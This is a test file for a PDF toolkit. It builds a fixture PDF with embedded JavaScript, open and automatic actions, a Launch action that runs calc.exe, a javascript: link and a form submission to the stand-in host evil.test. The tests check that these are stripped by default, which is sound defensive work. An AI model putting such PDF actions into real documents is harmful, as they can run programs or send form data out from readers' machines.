/**
 * Issue #16 item 5: active content is a choice. An input carrying document JavaScript, an opening
 * action, automatic (/AA) actions, a Launch action, a javascript: link, a form-submitting link, a
 * JavaScript bookmark and an orphaned JavaScript object goes through every tool that rewrites a
 * document. By default (the "Remove scripts and actions" option) qpdf finds none of it in the result
 * and the notes say what was removed; the web link and the page jump stay. With the option off, the
 * notes say the content is kept, and it is.
 */
import { describe, expect, test } from 'vitest';
import JSZip from 'jszip';
import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  StandardFonts,
  type PDFPage,
  type PDFRef,
} from 'pdf-lib';
import { run as compress } from '../../workers/engine/tools/compress-pdf.ts';
import { run as rotate } from '../../workers/engine/tools/rotate-pdf.ts';
import { run as watermark } from '../../workers/engine/tools/add-watermark.ts';
import { run as protect } from '../../workers/engine/tools/protect-pdf.ts';
import { run as merge } from '../../workers/engine/tools/merge-pdf.ts';
import { run as split } from '../../workers/engine/tools/split-pdf.ts';
import { run as organize } from '../../workers/engine/tools/organize-pdf.ts';
import { run as edit } from '../../workers/engine/tools/edit-pdf.ts';
import type { Engine, EngineOptions, EngineResult } from '../../workers/engine/lib/types.ts';
import {
  findActiveContent,
  mayHoldActiveContent,
  removeActiveContent,
} from '../../workers/engine/lib/pdf/active-content.ts';
import { expectOnlyAllowedActions, expectQpdfCheck, pdfActions } from '../support/pdf-actions.ts';

const js = (doc: PDFDocument, code: string) =>
  doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });

function link(doc: PDFDocument, page: PDFPage, y: number, action: PDFDict | undefined, dest?: PDFArray): PDFRef {
  const annot = doc.context.register(
    doc.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [40, y, 240, y + 20],
      Border: [0, 0, 0],
      ...(action ? { A: action } : {}),
      ...(dest ? { Dest: dest } : {}),
    }),
  );
  const annots = page.node.lookup(PDFName.of('Annots'));
  if (annots instanceof PDFArray) annots.push(annot);
  else page.node.set(PDFName.of('Annots'), doc.context.obj([annot]));
  return annot;
}

/** Three labelled pages carrying every kind of active content, plus one web link and one page jump to keep. */
export async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const pages = [1, 2, 3].map((n) => {
    const page = doc.addPage([300, 400]);
    page.drawText(`P${n}`, { x: 40, y: 330, size: 36, font });
    return page;
  });
  const { context } = doc;
  const documentScript = context.register(js(doc, 'app.alert("document")'));
  doc.catalog.set(
    PDFName.of('Names'),
    context.obj({ JavaScript: context.obj({ Names: [PDFHexString.fromText('init'), documentScript] }) }),
  );
  doc.catalog.set(PDFName.of('OpenAction'), js(doc, 'app.alert("open")'));
  doc.catalog.set(PDFName.of('AA'), context.obj({ WC: js(doc, 'app.alert("close")') }));
  pages[0].node.set(PDFName.of('AA'), context.obj({ O: js(doc, 'app.alert("page")') }));
  link(doc, pages[0], 250, context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('calc.exe') }));
  link(doc, pages[0], 200, context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of('javascript:app.alert(1)') }));
  link(
    doc,
    pages[0],
    150,
    context.obj({
      Type: 'Action',
      S: 'SubmitForm',
      F: context.obj({ FS: 'URL', F: PDFString.of('https://evil.test/collect') }),
    }),
  );
  link(doc, pages[1], 250, context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of('https://example.org/kept') }));
  link(doc, pages[1], 200, undefined, context.obj([pages[2].ref, 'Fit']));
  // An object no page or dictionary refers to: pdf-lib would still write it.
  context.register(js(doc, 'app.alert("orphan")'));
  // A bookmark that runs a script, next to one that goes to page 2.
  const outlines = context.nextRef();
  const scripted = context.nextRef();
  const plain = context.nextRef();
  context.assign(
    scripted,
    context.obj({
      Title: PDFHexString.fromText('Run'),
      Parent: outlines,
      Next: plain,
      A: js(doc, 'app.alert("bookmark")'),
    }),
  );
  context.assign(
    plain,
    context.obj({
      Title: PDFHexString.fromText('Page 2'),
      Parent: outlines,
      Prev: scripted,
      Dest: [pages[1].ref, 'Fit'],
    }),
  );
  context.assign(outlines, context.obj({ Type: 'Outlines', First: scripted, Last: plain, Count: 2 }));
  doc.catalog.set(PDFName.of('Outlines'), outlines);
  // Tagged PDF: /A of a structure element holds its attributes, not an action; it must stay.
  const structure = context.register(
    context.obj({ Type: 'StructElem', S: 'P', A: context.obj({ O: 'Layout', Placement: 'Block' }) }),
  );
  doc.catalog.set(PDFName.of('StructTreeRoot'), context.obj({ Type: 'StructTreeRoot', K: [structure] }));
  return doc.save({ useObjectStreams: false });
}

const input = (bytes: Uint8Array, name = 'hostile.pdf') => ({ name, bytes });

/** Each tool with the options it needs; `password` when the output is encrypted. */
const TOOLS: Array<{ name: string; engine: Engine; options: EngineOptions; password?: string; twoInputs?: boolean }> = [
  { name: 'compress-pdf', engine: compress, options: {} },
  { name: 'rotate-pdf', engine: rotate, options: { angle: 90 } },
  { name: 'add-watermark', engine: watermark, options: { type: 'text', text: 'DRAFT' } },
  { name: 'protect-pdf', engine: protect, options: { password: 'correct horse' }, password: 'correct horse' },
  { name: 'merge-pdf', engine: merge, options: {}, twoInputs: true },
  { name: 'split-pdf', engine: split, options: {} },
  { name: 'organize-pdf', engine: organize, options: { pageOrder: '3,1,2' } },
  { name: 'edit-pdf', engine: edit, options: { text: 'Edited', position: 'top' } },
];

/** The PDFs of a result: the file itself, or every PDF in its ZIP. */
async function outputPdfs(result: EngineResult): Promise<Uint8Array[]> {
  if (result.mime !== 'application/zip') return [result.bytes];
  const zip = await JSZip.loadAsync(result.bytes);
  return Promise.all(Object.values(zip.files).map((file) => file.async('uint8array')));
}

describe('scripts and actions', () => {
  test('the fixture carries what it claims (read by qpdf, and by the scan)', async () => {
    const bytes = await hostilePdf();
    expectQpdfCheck(bytes);
    const found = pdfActions(bytes);
    expect(found.documentJavaScript).toBe(true);
    expect(found.openActions).toBe(1);
    expect(found.automatic).toBe(2);
    expect(found.actions.map((a) => a.type).sort()).toEqual([
      'JavaScript',
      'JavaScript',
      'JavaScript',
      'JavaScript',
      'JavaScript',
      'JavaScript',
      'Launch',
      'SubmitForm',
      'URI',
      'URI',
    ]);
    expect(findActiveContent(await PDFDocument.load(bytes))).toEqual({
      documentJavaScript: 1,
      openAction: 1,
      automaticActions: 2,
      javaScript: 1,
      launch: 1,
      unsafeLinks: 1,
      otherActions: 1,
    });
    // Removing leaves the structure element's attributes (its /A) alone.
    const cleaned = await PDFDocument.load(bytes);
    removeActiveContent(cleaned);
    const root = cleaned.catalog.lookup(PDFName.of('StructTreeRoot'), PDFDict);
    const element = cleaned.context.lookup(root.lookup(PDFName.of('K'), PDFArray).get(0), PDFDict);
    expect(element.lookup(PDFName.of('A'), PDFDict).lookup(PDFName.of('Placement'))).toBe(PDFName.of('Block'));
  });

  for (const tool of TOOLS) {
    test(`${tool.name} removes them by default and says so; the web link stays`, async () => {
      const bytes = await hostilePdf();
      const inputs = tool.twoInputs ? [input(bytes, 'a.pdf'), input(bytes, 'b.pdf')] : [input(bytes)];
      const result = await tool.engine(inputs, tool.options, {});
      const notes = result.notes?.join(' ') ?? '';
      expect(notes).toMatch(
        new RegExp(
          'Removed scripts and actions: document JavaScript \\(\\d+ scripts?\\), an action run on opening, ' +
            ('\\d+ automatic actions, \\d+ JavaScript actions?, \\d+ Launch actions?, \\d+ links? to (a ' +
              'script|scripts) or local files?, ') +
            '\\d+ actions? reaching outside the document\\.',
        ),
      );
      const outputs = await outputPdfs(result);
      const kept = outputs.flatMap((pdf) => expectOnlyAllowedActions(pdf, tool.password).actions);
      expect(kept.filter((a) => a.type === 'URI').map((a) => a.uri)).toContain('https://example.org/kept');
    });
  }

  test('with the option off the notes say they are kept, and they are (rotate, merge)', async () => {
    const bytes = await hostilePdf();
    const rotated = await rotate([input(bytes)], { angle: 90, removeScripts: false }, {});
    expect(rotated.notes?.join(' ')).toMatch(
      /The PDF contains scripts or actions \(document JavaScript.*Launch action.*\), kept as chosen/,
    );
    expectQpdfCheck(rotated.bytes);
    const found = pdfActions(rotated.bytes);
    expect(found.documentJavaScript).toBe(true);
    expect(found.actions.map((a) => a.type)).toEqual(expect.arrayContaining(['JavaScript', 'Launch', 'SubmitForm']));

    const merged = await merge([input(bytes, 'a.pdf')], { removeScripts: 'false' }, {});
    expect(merged.notes?.join(' ')).toMatch(/kept as chosen where they belong to pages/);
    expect(pdfActions(merged.bytes).actions.map((a) => a.type)).toContain('Launch');
  });

  test(
    'merge, split and organize (pages deleted) remove them from the pages they copy before qpdf runs: no pdf-lib ' +
      'rewrite of the result',
    async () => {
      const bytes = await hostilePdf();
      const merged = await merge([input(bytes, 'a.pdf'), input(bytes, 'b.pdf')], {}, {});
      const parts = await outputPdfs(await split([input(bytes)], {}, {}));
      const organized = await organize([input(bytes)], { pageOrder: '2, blank, 1r90' }, {});
      expect(organized.notes?.join(' ')).toMatch(/Removed scripts and actions: document JavaScript.*Launch action/);
      for (const pdf of [merged.bytes, ...parts, organized.bytes]) {
        expectOnlyAllowedActions(pdf);
        // qpdf's file and Folio's incremental update (bookmarks, link targets), not pdf-lib's rewrite.
        expect(new TextDecoder('latin1').decode(pdf).match(/startxref/g)).toHaveLength(2);
        expect(mayHoldActiveContent(pdf)).toBe(false);
      }
    },
  );
});

test("organize keeping every page removes the pages' actions on qpdf, in the document itself", async () => {
  // The document's own scripts taken out first: with those to remove, pdf-lib's path runs instead.
  const doc = await PDFDocument.load(await hostilePdf());
  for (const key of ['Names', 'OpenAction', 'AA']) doc.catalog.delete(PDFName.of(key));
  const bytes = await doc.save({ useObjectStreams: false });
  const organized = await organize([input(bytes)], { pageOrder: '3, 1r90, 2, blank' }, {});
  expect(organized.notes?.join(' ')).toMatch(/Removed scripts and actions: .*Launch action/);
  expect(organized.notes?.join(' ')).not.toMatch(/document JavaScript/);
  // qpdf's file (its binary comment on the second line), not pdf-lib's rewrite.
  expect(new TextDecoder('latin1').decode(organized.bytes.subarray(0, 16))).toMatch(/^%PDF-1\.\d+\s+%\xbf\xf7\xa2\xfe/);
  expectOnlyAllowedActions(organized.bytes);
  expect(mayHoldActiveContent(organized.bytes)).toBe(false);
  expectQpdfCheck(organized.bytes);
  expect(pdfActions(organized.bytes).actions.map((a) => a.type)).toContain('URI');
});

describe('the quick look before page assembly on qpdf skips the pdf-lib pass only when it is safe', () => {
  const pdf = (body: string) => new TextEncoder().encode(`%PDF-1.7\n1 0 obj\n${body}\nendobj\n%%EOF\n`);
  test('plain pages and web, mail and phone links need no second pass', () => {
    expect(mayHoldActiveContent(pdf('<< /Type /Page /MediaBox [0 0 10 10] /AAPL:Keywords 1 >>'))).toBe(false);
    expect(mayHoldActiveContent(pdf('<< /S /URI /URI (https://example.org/a) >> << /URI (MAILTO:a@b.test) >>'))).toBe(
      false,
    );
  });
  test('any name only actions use, an unsafe or unreadable address, or an object stream needs it', () => {
    for (const body of [
      '<< /S /JavaScript /JS (app.alert(1)) >>',
      '<< /OpenAction 3 0 R >>',
      '<< /AA << /O 4 0 R >> >>',
      '<< /S /Launch /F (calc.exe) >>',
      '<< /S /URI /URI (javascript:alert(1)) >>',
      '<< /S /URI /URI <68747470733a2f2f> >>',
      '<< /Type /ObjStm /N 3 /First 10 >>',
    ])
      expect(mayHoldActiveContent(pdf(body)), body).toBe(true);
  });
});
